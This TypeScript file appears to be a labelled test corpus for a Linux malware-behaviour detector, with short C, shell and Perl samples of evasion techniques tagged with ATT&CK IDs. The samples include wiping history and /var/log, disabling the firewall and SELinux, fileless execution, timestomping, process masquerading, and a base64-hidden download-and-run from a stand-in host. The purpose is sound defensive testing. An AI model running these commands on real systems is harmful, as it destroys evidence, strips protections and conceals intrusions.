// Staying unseen, and getting rid of what would see.
import type { Trait } from './trait.ts'

const shell = (lines: readonly string[]): string => `#!/bin/bash\n${lines.join('\n')}\n`

export const EVASION: readonly Trait[] = [
  {
    name: 'deletes itself and goes on in the background',
    language: 'c',
    source: `
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>
int main(int count, char **words) {
  (void)count;
  unlink(words[0]);
  if (fork() > 0) _exit(0);
  setsid();
  if (fork() > 0) _exit(0);
  umask(0);
  sleep(20);
  return 0;
}`,
    shows: { trace_deletes_itself: ['T1070.004'] },
    label: 'suspicious',
    core: true,
  },
  {
    name: 'runs a program out of memory',
    language: 'c',
    source: `
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/mman.h>
#include <unistd.h>
extern char **environ;
int main(void) {
  static char block[65536];
  int from = open("/bin/true", O_RDONLY), to = memfd_create("", MFD_CLOEXEC);
  for (ssize_t got; (got = read(from, block, sizeof block)) > 0;)
    if (write(to, block, (size_t)got) < 0) return 1;
  char *words[] = {"[kworker/u4:1]", NULL};
  fexecve(to, words, environ);
  return 2;
}`,
    shows: { trace_runs_from_memory: ['T1620'], trace_poses_as_system_process: ['T1036.004'] },
    label: 'malicious',
    core: true,
  },
  {
    name: 'asks whether it is traced and where it runs',
    language: 'c',
    source: `
#include <fcntl.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <unistd.h>
static void look(const char *path) {
  char text[512];
  int file = open(path, O_RDONLY);
  if (file >= 0 && read(file, text, sizeof text) >= 0) close(file);
}
int main(void) {
  if (ptrace(PTRACE_TRACEME, 0, 0, 0) < 0) exit(0);
  look("/proc/self/status");
  look("/sys/class/dmi/id/product_name");
  look("/sys/class/dmi/id/sys_vendor");
  access("/.dockerenv", F_OK);
  return 3;
}`,
    shows: { trace_checks_for_analysis: ['T1497.001', 'T1622'] },
    label: 'suspicious',
    core: true,
  },
  {
    name: 'sets back the times of a file',
    language: 'shell',
    source: shell([
      `printf '#!/bin/sh\\nexit 0\\n' > /usr/bin/syslogd2`,
      'chmod 755 /usr/bin/syslogd2',
      'touch -r /bin/ls /usr/bin/syslogd2',
    ]),
    shows: { trace_changes_file_times: ['T1070.006'] },
    label: 'unknown',
    core: true,
  },
  {
    name: 'sets back times by a call',
    language: 'c',
    source: `
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>
int main(void) {
  int file = open("/usr/sbin/netd", O_WRONLY | O_CREAT, 0755);
  if (write(file, "x", 1) < 0) return 1;
  close(file);
  struct timespec old[2] = {{1500000000, 0}, {1500000000, 0}};
  return utimensat(AT_FDCWD, "/usr/sbin/netd", old, 0);
}`,
    shows: { trace_changes_file_times: ['T1070.006'] },
    label: 'unknown',
  },
  {
    name: 'clears the history and the logs',
    language: 'shell',
    source: shell([
      'unset HISTFILE; history -c; rm -f ~/.bash_history; ln -s /dev/null ~/.bash_history',
      'for log in /var/log/auth.log /var/log/wtmp; do : > $log; done',
      'rm -rf /var/log/*',
    ]),
    shows: { trace_clears_event_logs: ['T1070.002', 'T1070.003'] },
    label: 'malicious',
  },
  {
    name: 'opens the firewall and turns protection off',
    language: 'shell',
    source: shell([
      'iptables -F; iptables -P INPUT ACCEPT',
      'setenforce 0 2>/dev/null',
      'ufw disable; systemctl stop apparmor',
      'echo SELINUX=disabled > /etc/selinux/config 2>/dev/null',
    ]),
    shows: { trace_weakens_defences: ['T1562.004', 'T1562.001'] },
    label: 'suspicious',
  },
  {
    name: 'ends competitors',
    language: 'shell',
    source: shell([
      'for name in kinsing xmrig kdevtmpfsi watchbog; do pkill -9 -f $name; killall -9 $name; done',
      `ps aux | grep -v grep | grep ':3333' | awk '{print $2}' | xargs -r kill -9`,
    ]),
    shows: { trace_kills_processes: ['T1489'] },
    label: 'unknown',
    watchedSeconds: 30,
  },
  {
    name: 'hidden folder, hidden program started from it',
    language: 'shell',
    source: shell([
      'mkdir -p /tmp/.X11-unix2 && cp /bin/sleep /tmp/.X11-unix2/.rsync',
      'chmod +x /tmp/.X11-unix2/.rsync',
      '/tmp/.X11-unix2/.rsync 1',
    ]),
    shows: { trace_hides_files: ['T1564.001'], trace_runs_dropped_program: ['T1204.002'] },
    label: 'suspicious',
  },
  {
    name: 'poses as a thread of the kernel',
    language: 'c',
    source: `
#include <string.h>
#include <sys/prctl.h>
#include <unistd.h>
int main(int count, char **words) {
  (void)count;
  prctl(PR_SET_NAME, "kworker/0:2");
  memset(words[0], 0, strlen(words[0]));
  sleep(1);
  return 0;
}`,
    shows: { trace_poses_as_system_process: ['T1036.004'] },
    label: 'suspicious',
  },
  {
    name: 'a Perl bot that calls itself a daemon of the system',
    language: 'perl',
    source: `#!/usr/bin/perl
$0 = "/usr/sbin/sshd -D";
fork and exit;
sleep 2;
`,
    shows: { trace_poses_as_system_process: ['T1036.004'] },
    label: 'suspicious',
  },
  {
    name: 'loads a library of its own into another program',
    language: 'shell',
    source: shell([
      'mkdir -p /tmp/.l && cp /lib/x86_64-linux-gnu/libutil.so.1 /tmp/.l/libhide.so',
      'LD_PRELOAD=/tmp/.l/libhide.so /bin/ls /tmp > /dev/null',
    ]),
    shows: { trace_preloads_library: ['T1574.006'], trace_hides_files: ['T1564.001'] },
    label: 'suspicious',
    core: true,
  },
  {
    name: 'decrypts code into memory and jumps there',
    language: 'c',
    source: `
#include <string.h>
#include <sys/mman.h>
int main(void) {
  /* mov eax, 7; ret; each byte hidden by 0x55 */
  static const unsigned char hidden[] = {0xed, 0x52, 0x55, 0x55, 0x55, 0x96};
  unsigned char *code = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  for (unsigned index = 0; index < sizeof hidden; index++) code[index] = hidden[index] ^ 0x55;
  mprotect(code, 4096, PROT_READ | PROT_EXEC);
  return ((int (*)(void))code)();
}`,
    shows: { trace_makes_memory_executable: ['T1027.002'] },
    label: 'unknown',
    core: true,
  },
  {
    name: 'the same pages writable here and executable there',
    language: 'c',
    source: `
#define _GNU_SOURCE
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>
int main(void) {
  static const unsigned char code[] = {0xb8, 7, 0, 0, 0, 0xc3};
  int pages = memfd_create("jit", 0);
  if (ftruncate(pages, 4096) < 0) return 1;
  unsigned char *write_here = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, pages, 0);
  unsigned char *run_here = mmap(0, 4096, PROT_READ | PROT_EXEC, MAP_SHARED, pages, 0);
  memcpy(write_here, code, sizeof code);
  return ((int (*)(void))run_here)();
}`,
    shows: { trace_makes_memory_executable: ['T1027.002'] },
    label: 'unknown',
  },
  {
    name: 'script within a script, in base64',
    language: 'shell',
    source: shell([
      `echo ${Buffer.from('id > /tmp/.who\ncurl -s http://stage.example/next.sh | bash\n').toString('base64')} | base64 -d | bash`,
    ]),
    shows: {
      trace_unpacks_code: ['T1027', 'T1140'],
      trace_fetches_further_stage: ['T1105', 'T1071.001'],
      trace_downloads_and_runs: ['T1105'],
      trace_hides_files: ['T1564.001'],
    },
    label: 'malicious',
    tells: ['http://stage.example/next.sh'],
    core: true,
  },
  {
    name: 'protects its file from being removed',
    language: 'shell',
    source: shell([
      'cp /bin/true /usr/bin/.dbus2',
      'chattr +i /usr/bin/.dbus2 2>/dev/null',
      'chattr -i /root/.ssh/authorized_keys 2>/dev/null; exit 0',
    ]),
    shows: { trace_hides_files: ['T1564.001', 'T1222.002'] },
    label: 'unknown',
  },
]
